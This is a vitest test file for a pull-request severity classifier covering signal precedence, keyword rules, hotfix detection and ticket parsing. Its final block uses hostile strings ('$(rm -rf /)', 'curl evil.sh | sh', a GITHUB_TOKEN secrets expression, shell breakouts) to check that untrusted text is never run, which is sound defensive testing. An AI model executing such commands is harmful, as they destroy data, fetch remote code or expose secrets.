import { describe, expect, it } from 'vitest';
import { classify, keywordText } from '../../src/shared/severity/classifier.ts';
import { defaultPolicy } from '../../src/shared/policy/policy.ts';
import type { Subject } from '../../src/shared/github/subject.ts';
import { policySchema } from '../../src/shared/policy/schema.ts';
import { prBody, TEMPLATE_BODY } from '../fixtures/pr-body.ts';

const policy = defaultPolicy();
const pr = (s: Partial<Subject>): Subject => ({
  kind: 'pull_request',
  number: 7,
  title: 'Fix checkout',
  body: '',
  labels: [],
  branch: 'hotfix/ENG-1234-fix-checkout',
  origin: 'test',
  ...s,
});

describe('classify: precedence', () => {
  const all = pr({
    labels: ['severity:P2'],
    title: '[P1] [HOTFIX] ENG-1234: fix checkout',
    body: prBody({ checked: ['P3'], impact: 'A CVE-2024-12345 lets anyone read invoices.' }),
  });

  it('input beats label, title, checkbox and keyword', () => {
    const d = classify({ subject: all, policy, explicit: { severity: 'P0', raw: 'sev-0' } });
    expect(d).toMatchObject({ severity: 'P0', level: 0, source: 'input' });
    expect(d.reason).toContain('severity input "sev-0"');
    expect(d.conflicts.map((c) => c.source)).toEqual(['label', 'title', 'checkbox']);
  });

  it('label beats title tag', () => {
    const d = classify({ subject: all, policy });
    expect(d).toMatchObject({ severity: 'P2', source: 'label' });
    expect(d.reason).toBe(
      'P2 from the label "severity:P2", which outranks the rest (title tag [P1] says P1; checked box "P3 - Business critical" says P3; keyword rule "security vulnerability" (matched "CVE-2024-12345" in the body) says P0).',
    );
  });

  it('title tag beats checkbox', () => {
    expect(classify({ subject: { ...all, labels: [] }, policy })).toMatchObject({
      severity: 'P1',
      source: 'title',
    });
  });

  it('checkbox beats keyword', () => {
    expect(
      classify({ subject: { ...all, labels: [], title: 'ENG-1234 fix' }, policy }),
    ).toMatchObject({ severity: 'P3', source: 'checkbox' });
  });

  it('keyword beats default', () => {
    const d = classify({
      subject: pr({ body: prBody({ impact: 'Login bypass: any password works for SSO users.' }) }),
      policy,
    });
    expect(d).toMatchObject({ severity: 'P0', source: 'keyword' });
    expect(d.reason).toContain('keyword rule "auth bypass" (matched "Login bypass"');
  });

  it('falls back to the default, from the input or the policy', () => {
    const quiet = pr({ title: 'Adjust copy', body: '' });
    expect(classify({ subject: quiet, policy })).toMatchObject({
      severity: 'P2',
      source: 'default',
    });
    expect(classify({ subject: quiet, policy, defaultSeverity: 'P3' })).toMatchObject({
      severity: 'P3',
      source: 'default',
    });
    const p1 = policySchema.parse({ classification: { default: 'P1' } });
    expect(classify({ subject: quiet, policy: p1 }).severity).toBe('P1');
  });
});

describe('classify: signals', () => {
  it.each([
    ['[p1] fix', 'P1'],
    ['[SEV2] fix', 'P2'],
    ['[Sev 0] fix', 'P0'],
    ['fix [P3]', 'P3'],
  ])('title tag %s', (title, want) => {
    expect(classify({ subject: pr({ title }), policy })).toMatchObject({
      severity: want,
      source: 'title',
    });
  });

  it('reads the template urgency box with [x] or [X], and takes the most urgent of several', () => {
    expect(classify({ subject: pr({ body: prBody({ checked: ['P1'] }) }), policy })).toMatchObject({
      severity: 'P1',
      source: 'checkbox',
    });
    const upper = prBody({ checked: ['P2'] }).replace('[x]', '[X]');
    expect(classify({ subject: pr({ body: upper }), policy }).severity).toBe('P2');
    expect(
      classify({ subject: pr({ body: prBody({ checked: ['P2', 'P0'] }) }), policy }).severity,
    ).toBe('P0');
  });

  it('a "high" box or a word tag is not an urgency signal', () => {
    const d = classify({
      subject: pr({ title: '[critical] fix', body: '- [x] High memory usage fixed' }),
      policy,
    });
    expect(d.source).not.toBe('checkbox');
    expect(d.source).not.toBe('title');
  });

  it('the most urgent severity label wins among several', () => {
    expect(
      classify({ subject: pr({ labels: ['bug', 'priority/p2', 'sev-1'] }), policy }),
    ).toMatchObject({ severity: 'P1', source: 'label' });
  });

  it('the blank template matches no keyword rule', () => {
    const d = classify({ subject: pr({ title: 'ENG-1 fix', body: TEMPLATE_BODY }), policy });
    expect(d.source).toBe('default');
    expect(keywordText(TEMPLATE_BODY)).not.toMatch(/security|specific region/i);
  });

  it.each([
    ['A security vulnerability in the upload endpoint', 'P0', 'security vulnerability'],
    ['Fixes CVE-2025-10234 in the XML parser', 'P0', 'security vulnerability'],
    ['Authorization bypass for org admins', 'P0', 'auth bypass'],
    ['Data leak of invoices through the export API', 'P0', 'data breach or leak'],
    ['Remote code execution through template injection', 'P0', 'remote code execution'],
    ['Nightly job corrupted customer records', 'P0', 'data loss or corruption'],
    ['The whole service is down after the TLS rotation', 'P0', 'service unavailable'],
    ['Production down for the search feature', 'P1', 'production down'],
    ['The app crashes on start for Android 14', 'P1', 'application crash'],
    ['Most users get errors on login', 'P1', 'errors for most users'],
    ['Payments failing with card_declined', 'P1', 'payments failing'],
    ['Database connection pool is exhausted every hour', 'P1', 'database connectivity'],
    ['The third-party shipping API is down', 'P1', 'critical integration failing'],
    ['Search results are slow since Monday', 'P2', 'degraded performance'],
    ['Exports are partially broken for CSV', 'P2', 'partial breakage'],
    ['Some users in the EU region cannot upload', 'P2', 'one user segment'],
    ['A workaround exists: refresh the page', 'P2', 'workaround exists'],
    ['Needed before the partner launch date', 'P3', 'business deadline'],
    ['Typo on the pricing page', 'P3', 'cosmetic'],
  ])('keyword: %s -> %s', (text, want, rule) => {
    const d = classify({ subject: pr({ title: 'ENG-9 fix', body: '' }), policy, text });
    expect(d.severity).toBe(want);
    expect(d.signals[0]?.detail).toContain(`"${rule}"`);
  });

  it('the most urgent keyword rule wins whatever the order of the text', () => {
    const d = classify({
      subject: pr({ title: 'Slow pages', body: 'Also a data leak of emails.' }),
      policy,
    });
    expect(d.severity).toBe('P0');
  });

  it('policy rules are tried, and built-ins can be turned off', () => {
    const own = policySchema.parse({
      classification: {
        rules: [{ severity: 'P1', name: 'ledger', pattern: 'ledger (mismatch|drift)' }],
        'builtin-rules': false,
      },
    });
    expect(classify({ subject: pr({ title: 'Ledger drift in EU' }), policy: own })).toMatchObject({
      severity: 'P1',
      source: 'keyword',
    });
    expect(
      classify({ subject: pr({ title: 'A security vulnerability' }), policy: own }).source,
    ).toBe('default');
  });
});

describe('classify: hotfix and ticket', () => {
  it('hotfix from branch, label or title tag', () => {
    expect(classify({ subject: pr({}), policy }).isHotfix).toBe(true);
    expect(
      classify({ subject: pr({ branch: 'feature/x', labels: ['Hotfix'] }), policy }).isHotfix,
    ).toBe(true);
    expect(
      classify({ subject: pr({ branch: 'feature/x', title: '[RELEASE] ship' }), policy }).isHotfix,
    ).toBe(true);
    const no = classify({ subject: pr({ branch: 'feature/x', title: 'ship' }), policy });
    expect(no.isHotfix).toBe(false);
    expect(no.hotfixReason).toMatch(/^not a hotfix/);
  });

  it('ticket from the branch first, then the title', () => {
    expect(classify({ subject: pr({ title: 'OPS-77 fix' }), policy }).ticket).toBe('ENG-1234');
    expect(
      classify({ subject: pr({ branch: 'hotfix/fix', title: 'OPS-77 fix' }), policy }).ticket,
    ).toBe('OPS-77');
    expect(
      classify({ subject: pr({ branch: 'hotfix/fix', title: 'fix' }), policy }).ticket,
    ).toBeUndefined();
  });
});

describe('untrusted text is only ever data', () => {
  it.each([
    '$(rm -rf /)',
    '`curl evil.sh | sh`',
    '${{ secrets.GITHUB_TOKEN }}',
    '"; exit 1; echo "',
    '\u0000\n::error::pwned',
  ])('%j classifies without being run or interpreted', (text) => {
    const d = classify({
      subject: pr({ title: `[P1] ${text}`, body: text, labels: [text] }),
      policy,
      text,
    });
    expect(d.severity).toBe('P1');
    expect(d.reason).toBe('P1 from the title tag [P1].');
  });
});
